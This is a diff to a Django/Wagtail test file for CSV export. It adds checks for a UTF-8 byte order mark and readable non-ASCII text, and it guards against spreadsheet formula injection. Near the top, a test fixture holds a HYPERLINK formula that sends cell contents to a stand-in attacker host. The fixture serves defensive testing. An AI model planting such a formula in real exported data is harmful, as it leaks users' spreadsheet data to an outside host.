@@ -1,11 +1,13 @@
 """Every CSV cell opens in a spreadsheet as the text or number it is, never a formula."""
 
+import codecs
 import csv
 import datetime
 import io
 from decimal import Decimal
 
 import pytest
+from django.urls import reverse
 from django.utils.translation import gettext_lazy
 from wagtail.admin.viewsets import viewsets
 from wagtail.admin.viewsets.base import ViewSet
@@ -16,6 +18,7 @@ from portal.csv_export import (
     csv_response,
     write_csv,
 )
+from tests.factories import PerangkatDaerahFactory
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
 
@@ -63,11 +66,35 @@ def test_write_csv_without_a_header_writes_only_the_rows():
     assert write_csv([["a", 1]]).splitlines() == ["a,1"]
 
 
-def test_csv_response_is_a_utf8_attachment():
+def test_csv_response_is_a_utf8_attachment_with_a_byte_order_mark():
     response = csv_response(write_csv([["Kabupaten Langkat", "=1"]]), "data.csv")
     assert response["Content-Type"] == "text/csv; charset=utf-8"
     assert response["Content-Disposition"] == 'attachment; filename="data.csv"'
-    assert response.content.decode() == "Kabupaten Langkat,'=1\r\n"
+    assert response.content.startswith(codecs.BOM_UTF8)
+    assert response.content.decode("utf-8-sig") == "Kabupaten Langkat,'=1\r\n"
+
+
+def test_csv_response_keeps_non_ascii_text_readable_for_excel():
+    response = csv_response(write_csv([["Café Tanjung Pura", "Rp 12.500"]]), "x.csv")
+    assert response.content == codecs.BOM_UTF8 + (
+        "Café Tanjung Pura,Rp 12.500\r\n".encode()
+    )
+
+
+def test_csv_response_never_doubles_the_byte_order_mark():
+    response = csv_response("\ufeffa,b\r\n", "x.csv")
+    assert response.content == codecs.BOM_UTF8 + b"a,b\r\n"
+
+
+@pytest.mark.django_db
+def test_admin_listing_csv_export_has_a_bom_and_charset(admin_client):
+    PerangkatDaerahFactory(nama="Dinas Uji Kafé Stabat")
+    response = admin_client.get(reverse("perangkatdaerah:index"), {"export": "csv"})
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    content = b"".join(response.streaming_content)
+    assert content.startswith(codecs.BOM_UTF8)
+    assert content.count(codecs.BOM_UTF8) == 1
+    assert "Dinas Uji Kafé Stabat" in content.decode("utf-8-sig")
 
 
 def test_every_admin_listing_with_an_export_neutralises_formulas():
